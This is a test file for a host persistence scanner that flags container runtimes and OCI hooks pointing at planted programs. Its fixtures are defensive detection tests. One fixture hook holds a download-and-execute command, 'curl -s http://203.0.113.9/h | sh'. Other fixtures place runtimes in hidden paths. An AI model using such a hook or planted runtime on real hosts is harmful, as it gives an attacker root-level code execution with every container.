/**
 * Host programs container engines run as root with every container: Docker's runtimes and userland proxy,
 * containerd's runtime binaries, CRI-O's and Podman's runtimes and conmon, and OCI hooks. A planted program there
 * fires; Debian's shipped containerd and containers-common configuration, and ordinary runtimes, stay quiet.
 */
import assert from "node:assert/strict";
import { assertLinear } from "../linear.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import {
  dockerDaemonPrograms,
  ociHookProgram,
  tomlStrings,
} from "../../src/scanners/persistence/sources/container_runtimes_parse.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, exe, fired, withAccounts } from "./persistence_fixtures.ts";

const stock = (path: string) =>
  Deno.readTextFileSync(new URL(`../fixtures/hosts/stock/debian12/${path}`, import.meta.url));

Deno.test("tomlStrings: string and array values by table, arrays across lines, comments and other values skipped", () => {
  assert.deepEqual(
    tomlStrings([
      'imports = ["/etc/containerd/conf.d/*.toml"] # drop-ins',
      "version = 2",
      '[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]',
      '  BinaryName = "/usr/local/bin/r#unc"',
      "[engine.runtimes]",
      "crun = [",
      '  "/usr/bin/crun", # first found',
      "  '/usr/local/bin/crun',",
      "]",
      "#kata = [",
      "x = { a = 1 }",
    ].join("\n")),
    [
      { table: "", key: "imports", values: ["/etc/containerd/conf.d/*.toml"], line: 1 },
      {
        table: 'plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options',
        key: "BinaryName",
        values: ["/usr/local/bin/r#unc"],
        line: 4,
      },
      { table: "engine.runtimes", key: "crun", values: ["/usr/bin/crun", "/usr/local/bin/crun"], line: 6 },
    ],
  );
});

Deno.test("daemon.json and OCI hook readers: programs with their arguments; malformed files name none", () => {
  assert.deepEqual(
    dockerDaemonPrograms(JSON.stringify({
      runtimes: { nvidia: { path: "/usr/bin/nvidia-container-runtime", runtimeArgs: ["--debug"] }, bad: 5 },
      "userland-proxy-path": "/usr/libexec/docker/docker-proxy",
      "data-root": "/srv/docker",
    })),
    [
      { setting: "runtimes.nvidia.path", command: "/usr/bin/nvidia-container-runtime --debug" },
      { setting: "userland-proxy-path", command: "/usr/libexec/docker/docker-proxy" },
    ],
  );
  assert.deepEqual(dockerDaemonPrograms("{}"), []);
  assert.equal(dockerDaemonPrograms("{ not json"), undefined);
  assert.equal(dockerDaemonPrograms("[1]"), undefined);
  assert.deepEqual(
    ociHookProgram(JSON.stringify({
      version: "1.0.0",
      hook: { path: "/usr/bin/oci-hook", args: ["oci-hook", "prestart", "-v"] },
      when: { always: true },
      stages: ["prestart"],
    })),
    { command: "/usr/bin/oci-hook prestart -v", stages: ["prestart"] },
  );
  assert.deepEqual(ociHookProgram('{"hook": "/usr/libexec/old-hook", "stage": ["poststop"]}'), {
    command: "/usr/libexec/old-hook",
    stages: ["poststop"],
  });
  for (const bad of ["", "null", '{"hook": {}}', '{"hook": {"path": 5}}', "{".repeat(100_000)]) {
    assert.equal(ociHookProgram(bad), undefined, bad.slice(0, 20));
  }
});

Deno.test("tomlStrings: malformed and hostile input never throws and takes linear time", () => {
  for (
    const text of [
      "x = [" + "[".repeat(1 << 20),
      "x = [\n" + '"a",\n'.repeat(200_000),
      '"'.repeat(1 << 20),
      "[" + "a.".repeat(300_000),
      "k = '" + "\\".repeat(1 << 20),
    ]
  ) assert.ok(Array.isArray(tomlStrings(text)));
  assertLinear(tomlStrings, [
    ["arrays with comments", (n) => 'x = ["a", "b#c"] # d\n'.repeat(n / 21)],
    ["open brackets", (n) => "x = [" + "[".repeat(n)],
    ["array lines", (n) => "x = [\n" + '"a",\n'.repeat(n / 5)],
    ["quotes", (n) => '"'.repeat(n)],
  ]);
});

Deno.test("persistence: engine programs and OCI hooks pointing at planted programs fire", async () => {
  using root = makeTree(withAccounts({
    "etc/docker/daemon.json": JSON.stringify({
      "default-runtime": "fast",
      runtimes: { fast: { path: "/var/lib/.rt/runc" } },
    }),
    "var/lib/.rt/runc": exe("#!/bin/sh\n"),
    // A top-level key: written after a [table] header it would belong to that table, for containerd too.
    "etc/containerd/config.toml": 'imports = ["conf.d/*.toml"]\n' + stock("etc/containerd/config.toml"),
    "etc/containerd/conf.d/10-runc.toml":
      '[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]\n  BinaryName = "/usr/sbin/runc-x"\n',
    "usr/sbin/runc-x": exe("\x7fELF"),
    "etc/containers/containers.conf":
      '[engine]\nhooks_dir = ["/opt/.h"]\n[engine.runtimes]\ncrun = ["/dev/shm/.c"]\n',
    "dev/shm/.c": exe("#!/bin/sh\n"),
    "opt/.h/net.json": JSON.stringify({
      version: "1.0.0",
      hook: { path: "/bin/sh", args: ["sh", "-c", "curl -s http://203.0.113.9/h | sh"] },
      when: { always: true },
      stages: ["prestart"],
    }),
    ...dpkgOwns("containerd", ["/usr/bin/containerd"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.download_exec /opt/.h/net.json",
    "high persistence.command.untrusted_path /etc/containers/containers.conf:4",
    "high persistence.command.untrusted_path /etc/docker/daemon.json",
    "medium persistence.command.unowned_program /etc/containerd/conf.d/10-runc.toml:2",
  ]);
});

Deno.test("persistence: Debian's engine configuration and packaged runtimes stay quiet", async () => {
  using root = makeTree(withAccounts({
    "etc/containerd/config.toml": stock("etc/containerd/config.toml"),
    "usr/share/containers/containers.conf": stock("usr/share/containers/containers.conf"),
    "etc/docker/daemon.json": JSON.stringify({
      runtimes: { runc: { path: "/usr/sbin/runc" } },
      "userland-proxy-path": "/usr/sbin/docker-proxy",
    }),
    "usr/sbin/runc": exe("\x7fELF"),
    "usr/sbin/docker-proxy": exe("\x7fELF"),
    "usr/share/containers/oci/hooks.d/oci-nvidia-hook.json": JSON.stringify({
      version: "1.0.0",
      hook: { path: "/usr/bin/nvidia-container-toolkit", args: ["nvidia-container-toolkit", "prestart"] },
      when: { always: true },
      stages: ["prestart"],
    }),
    "usr/bin/nvidia-container-toolkit": exe("\x7fELF"),
    ...dpkgOwns("runc", ["/usr/sbin/runc"]),
    ...dpkgOwns("docker.io", ["/usr/sbin/docker-proxy"]),
    ...dpkgOwns("nvidia-container-toolkit", [
      "/usr/bin/nvidia-container-toolkit",
      "/usr/share/containers/oci/hooks.d/oci-nvidia-hook.json",
    ]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const points = r.findings.filter((f) => f.metadata.kind === "container_runtime").map((f) =>
    `${f.metadata.path} ${f.metadata.entry_count}`
  );
  assert.deepEqual(points.sort(), [
    "/etc/containerd/config.toml 0",
    "/etc/docker/daemon.json 2",
    "/usr/share/containers/containers.conf 0",
    "/usr/share/containers/oci/hooks.d/oci-nvidia-hook.json 1",
  ]);
});
